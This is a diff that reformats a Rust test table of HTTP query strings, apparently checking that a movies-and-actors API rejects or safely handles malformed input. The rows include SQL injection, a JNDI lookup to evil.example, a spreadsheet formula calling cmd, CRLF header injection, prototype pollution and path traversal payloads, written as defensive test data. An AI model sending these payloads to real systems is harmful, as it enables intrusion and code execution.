@@ -19,21 +19,45 @@ pub(super) fn rows() -> Vec<Row> {
         ("a limit that is SQL", b"limit=1;DROP%20TABLE%20actors", 422),
         ("two limits", b"limit=1&limit=2", 422),
         ("the same limit twice", b"limit=1&limit=1", 422),
-        ("a limit and an encoded name of it", b"limit=1&%6cimit=2", 422),
+        (
+            "a limit and an encoded name of it",
+            b"limit=1&%6cimit=2",
+            422,
+        ),
         ("two limits in one", b"limit=1,2", 422),
         ("an after of zero", b"after=0", 422),
-        ("an after beyond the greatest", b"after=9007199254740992", 422),
+        (
+            "an after beyond the greatest",
+            b"after=9007199254740992",
+            422,
+        ),
         ("an after that is no id", b"after=01", 422),
-        ("an after that is a key of DynamoDB", b"after=%7b%22id%22:%7b%22N%22:%221%22%7d%7d", 422),
+        (
+            "an after that is a key of DynamoDB",
+            b"after=%7b%22id%22:%7b%22N%22:%221%22%7d%7d",
+            422,
+        ),
         ("an after at the greatest", b"after=9007199254740991", 200),
         ("a limit encoded is the limit", b"%6cimit=%31", 200),
         ("a limit in an array is another name", b"limit[]=0", 200),
         ("a limit in an object is another name", b"limit[$gt]=0", 200),
         ("a limit in another case is another name", b"LIMIT=0", 200),
-        ("a prototype", b"__proto__[limit]=0&constructor.prototype.limit=0", 200),
-        ("names of expressions", b"FilterExpression=true&ExclusiveStartKey=x&#a=:b&IndexName=y", 200),
+        (
+            "a prototype",
+            b"__proto__[limit]=0&constructor.prototype.limit=0",
+            200,
+        ),
+        (
+            "names of expressions",
+            b"FilterExpression=true&ExclusiveStartKey=x&#a=:b&IndexName=y",
+            200,
+        ),
         ("SQL", b"id=1'%20OR%20'1'='1&order=(select%20sleep(9))", 200),
-        ("a token where none counts", b"access_token=x&authorization=Bearer%20x", 200),
+        (
+            "a token where none counts",
+            b"access_token=x&authorization=Bearer%20x",
+            200,
+        ),
         ("nothing but separators", b"&&&==&;;&?&??", 200),
         ("bytes that are no UTF-8", b"%ff=%fe&%c3=%a9", 200),
         ("characters that no URL has", b"a={}|\\^`[]&b='", 200),
@@ -41,16 +65,32 @@ pub(super) fn rows() -> Vec<Row> {
         ("line ends", b"a=%0d%0aX-Injected:%20yes", 200),
         ("null bytes", b"%00=%00", 200),
     ];
-    let rows =
-        table.iter().map(|(what, query, status)| Row::new(what, "GET", [&b"/actors?"[..], query].concat(), *status));
+    let rows = table.iter().map(|(what, query, status)| {
+        Row::new(what, "GET", [&b"/actors?"[..], query].concat(), *status)
+    });
     let rows = rows.chain(found()).chain(cursors()).chain(of_one_row());
     let many: String = (0..1000).map(|number| format!("p{number}=&")).collect();
     let many_limits = "limit=1&".repeat(500);
     let long = format!("/movies?{}", "é".repeat(3000));
     rows.chain([
-        Row::new("a thousand parameters", "GET", format!("/actors?{many}"), 200),
-        Row::new("five hundred limits", "GET", format!("/actors?{many_limits}"), 422),
-        Row::new("six thousand bytes that the decoder's URL must have encoded", "GET", long, 200),
+        Row::new(
+            "a thousand parameters",
+            "GET",
+            format!("/actors?{many}"),
+            200,
+        ),
+        Row::new(
+            "five hundred limits",
+            "GET",
+            format!("/actors?{many_limits}"),
+            422,
+        ),
+        Row::new(
+            "six thousand bytes that the decoder's URL must have encoded",
+            "GET",
+            long,
+            200,
+        ),
     ])
     .collect()
 }
@@ -59,60 +99,180 @@ pub(super) fn rows() -> Vec<Row> {
 /// look invalid.
 fn found() -> Vec<Row> {
     let refused: &[(&str, &str, &[&str])] = &[
-        ("actors", "name", &["", "%20", "%cc%81", "+%e3%80%80+", "%1f", "a%00b"]),
+        (
+            "actors",
+            "name",
+            &["", "%20", "%cc%81", "+%e3%80%80+", "%1f", "a%00b"],
+        ),
         ("actors", "gender", &["", "%00", "a%0ab", "%1b[31m", "%20"]),
         (
             "actors",
             "min_age",
-            &["", "-1", "151", "1.0", "01", "+1", "1e1", "0x1", "%d9%a1", "1%00", "NaN", "null", "{}", "1;--"],
+            &[
+                "", "-1", "151", "1.0", "01", "+1", "1e1", "0x1", "%d9%a1", "1%00", "NaN", "null",
+                "{}", "1;--",
+            ],
         ),
         (
             "actors",
             "max_age",
-            &["", "-0", "151", "18446744073709551617", "00", "%201", "%ef%bc%91", "1,2", "true", "%ff"],
+            &[
+                "",
+                "-0",
+                "151",
+                "18446744073709551617",
+                "00",
+                "%201",
+                "%ef%bc%91",
+                "1,2",
+                "true",
+                "%ff",
+            ],
         ),
         (
             "actors",
             "movie_id",
-            &["", "0", "01", "-1", "9007199254740992", "18446744073709551617", "movie%231", "1%00", "*"],
+            &[
+                "",
+                "0",
+                "01",
+                "-1",
+                "9007199254740992",
+                "18446744073709551617",
+                "movie%231",
+                "1%00",
+                "*",
+            ],
         ),
         (
             "actors",
             "sort",
-            &["", "-", "--id", "ID", "gender", "title", "id,name", "id%00", "+id", "%2bid", "name%20desc", "1"],
+            &[
+                "",
+                "-",
+                "--id",
+                "ID",
+                "gender",
+                "title",
+                "id,name",
+                "id%00",
+                "+id",
+                "%2bid",
+                "name%20desc",
+                "1",
+            ],
         ),
-        ("actors", "sort", &["(select%20sleep(9))", "constructor", "__proto__", "by_name", "name_key", "-%69d%00"]),
-        ("actors", "include", &["", "cast", "Credits", "credits,cast", "credits%00", "*", "true", "../credits"]),
+        (
+            "actors",
+            "sort",
+            &[
+                "(select%20sleep(9))",
+                "constructor",
+                "__proto__",
+                "by_name",
+                "name_key",
+                "-%69d%00",
+            ],
+        ),
+        (
+            "actors",
+            "include",
+            &[
+                "",
+                "cast",
+                "Credits",
+                "credits,cast",
+                "credits%00",
+                "*",
+                "true",
+                "../credits",
+            ],
+        ),
         ("movies", "title", &["", "%20", "%cc%81%cc%88", "%09"]),
         (
             "movies",
             "released_from",
-            &["", "now", "01/02/2020", "2020-02-30", "1799-12-31", "10000-01-01", "1589464933", "2020%00"],
+            &[
+                "",
+                "now",
+                "01/02/2020",
+                "2020-02-30",
+                "1799-12-31",
+                "10000-01-01",
+                "1589464933",
+                "2020%00",
+            ],
         ),
         (
             "movies",
             "released_to",
-            &["", "2020", "2020-5", "9999-12-31T23:59:59-00:01", "2020-05-14%00", "'%20OR%20'1'='1"],
+            &[
+                "",
+                "2020",
+                "2020-5",
+                "9999-12-31T23:59:59-00:01",
+                "2020-05-14%00",
+                "'%20OR%20'1'='1",
+            ],
         ),
-        ("movies", "actor_id", &["", "0", "+1", "1.0", "9007199254740992", "actor%231", "{}", "%ff"]),
-        ("movies", "sort", &["name", "age", "-", "release-date", "release_date%20asc", "title,id", "by_title"]),
-        ("movies", "include", &["", "credits", "CAST", "cast%20", "cast,cast", "true"]),
+        (
+            "movies",
+            "actor_id",
+            &[
+                "",
+                "0",
+                "+1",
+                "1.0",
+                "9007199254740992",
+                "actor%231",
+                "{}",
+                "%ff",
+            ],
+        ),
+        (
+            "movies",
+            "sort",
+            &[
+                "name",
+                "age",
+                "-",
+                "release-date",
+                "release_date%20asc",
+                "title,id",
+                "by_title",
+            ],
+        ),
+        (
+            "movies",
+            "include",
+            &["", "credits", "CAST", "cast%20", "cast,cast", "true"],
+        ),
     ];
     let refused = refused.iter().flat_map(|(resource, name, values)| {
-        values.iter().map(move |value| (*resource, format!("{name}={value}"), 422))
+        values
+            .iter()
+            .map(move |value| (*resource, format!("{name}={value}"), 422))
     });
     let long = "x".repeat(201);
     let twice = [
         ("actors", format!("name={long}"), 422),
         ("actors", format!("gender={}", "x".repeat(81)), 422),
         ("movies", format!("title={long}"), 422),
-        ("movies", format!("title={}", "%f0%9d%95%8f".repeat(201)), 422),
+        (
+            "movies",
+            format!("title={}", "%f0%9d%95%8f".repeat(201)),
+            422,
+        ),
         ("actors", "name=a&name=a".to_owned(), 422),
         ("actors", "sort=id&sort=id".to_owned(), 422),
         ("actors", "min_age=1&%6din_age=1".to_owned(), 422),
         ("movies", "include=cast&include=cast".to_owned(), 422),
         ("movies", "actor_id=1&".repeat(500), 422),
-        ("movies", "released_to=2020-05-14&released_to=2020-05-15".to_owned(), 422),
+        (
+            "movies",
+            "released_to=2020-05-14&released_to=2020-05-15".to_owned(),
+            422,
+        ),
         ("actors", "after=1&sort=-id".to_owned(), 422),
         ("actors", "after=1&sort=age".to_owned(), 422),
         ("movies", "after=1&sort=title".to_owned(), 422),
@@ -121,7 +281,10 @@ fn found() -> Vec<Row> {
         ("actors", format!("name={}", "x".repeat(200))),
         // U+FDFA folds to eighteen characters.
         ("actors", format!("name={}", "%ef%b7%ba".repeat(200))),
-        ("actors", format!("name={}&sort=-name", "%f0%9d%95%8f".repeat(200))),
+        (
+            "actors",
+            format!("name={}&sort=-name", "%f0%9d%95%8f".repeat(200)),
+        ),
         ("movies", format!("title={}", "%ef%b7%ba".repeat(200))),
         ("actors", "name==cmd|'%20/C%20calc'!A0".to_owned()),
         ("actors", "name=%2b1%2b1&gender=@SUM(1)".to_owned()),
@@ -131,33 +294,68 @@ fn found() -> Vec<Row> {
         ("actors", "name=%ff%fe".to_owned()),
         ("actors", "gender=0%23female&sort=-age".to_owned()),
         ("actors", "min_age=150&max_age=0".to_owned()),
-        ("actors", "min_age=150&max_age=0&sort=-age&include=credits".to_owned()),
-        ("movies", "title=$%7bjndi:ldap://evil.example/a%7d".to_owned()),
+        (
+            "actors",
+            "min_age=150&max_age=0&sort=-age&include=credits".to_owned(),
+        ),
+        (
+            "movies",
+            "title=$%7bjndi:ldap://evil.example/a%7d".to_owned(),
+        ),
         ("movies", "title=%3c/script%3e&sort=title".to_owned()),
-        ("movies", "released_from=9999-12-31&released_to=1800-01-01&sort=-release_date".to_owned()),
+        (
+            "movies",
+            "released_from=9999-12-31&released_to=1800-01-01&sort=-release_date".to_owned(),
+        ),
         ("actors", "movie_id=9007199254740991".to_owned()),
-        ("movies", "actor_id=9007199254740991&include=cast".to_owned()),
+        (
+            "movies",
+            "actor_id=9007199254740991&include=cast".to_owned(),
+        ),
         // A parameter of the other resource is unknown.
         ("actors", "title=&actor_id=0&released_to=".to_owned()),
         ("movies", "name=&gender=&min_age=-1&movie_id=0".to_owned()),
         ("actors", "name[]=&sort[]=x&min_age[$gt]=0&NAME=".to_owned()),
     ];
-    let rows = refused.chain(twice).chain(taken.map(|(resource, query)| (resource, query, 200)));
+    let rows = refused
+        .chain(twice)
+        .chain(taken.map(|(resource, query)| (resource, query, 200)));
     rows.map(|(resource, query, status)| {
         let what: String = query.chars().take(60).collect();
-        Row::new(&format!("{resource}?{what}"), "GET", format!("/{resource}?{query}"), status)
+        Row::new(
+            &format!("{resource}?{what}"),
+            "GET",
+            format!("/{resource}?{query}"),
+            status,
+        )
     })
     .collect()
 }
 
 /// Cursors that no list has returned.
 fn cursors() -> Vec<Row> {
-    let nonsense =
-        ["", "x", "=", "AAAAAAAAAAAAAAAA", "%00", "%ff", "+", "../../actors", "{}", "null", "1", "AAAA&cursor=AAAA"];
+    let nonsense = [
+        "",
+        "x",
+        "=",
+        "AAAAAAAAAAAAAAAA",
+        "%00",
+        "%ff",
+        "+",
+        "../../actors",
+        "{}",
+        "null",
+        "1",
+        "AAAA&cursor=AAAA",
+    ];
     let (long, longer) = ("A".repeat(1500), "A".repeat(9000));
-    let nonsense = nonsense.into_iter().chain([long.as_str(), longer.as_str()]).flat_map(|cursor| {
-        ["/actors?", "/movies?sort=-title&", "/movies?actor_id=1&"].map(|list| (format!("{list}cursor={cursor}"), 422))
-    });
+    let nonsense = nonsense
+        .into_iter()
+        .chain([long.as_str(), longer.as_str()])
+        .flat_map(|cursor| {
+            ["/actors?", "/movies?sort=-title&", "/movies?actor_id=1&"]
+                .map(|list| (format!("{list}cursor={cursor}"), 422))
+        });
     // The digests of these are valid: they are made as the API makes them, for positions that no
     // row has. Each works in its own list only.
     let made = [
@@ -199,5 +397,7 @@ fn of_one_row() -> Vec<Row> {
         ("/movies/1?%69nclude=%63ast", 200),
         ("/movies/1?movie_id=2&id=2", 200),
     ];
-    table.map(|(target, status)| Row::new(target, "GET", target, status)).into()
+    table
+        .map(|(target, status)| Row::new(target, "GET", target, status))
+        .into()
 }
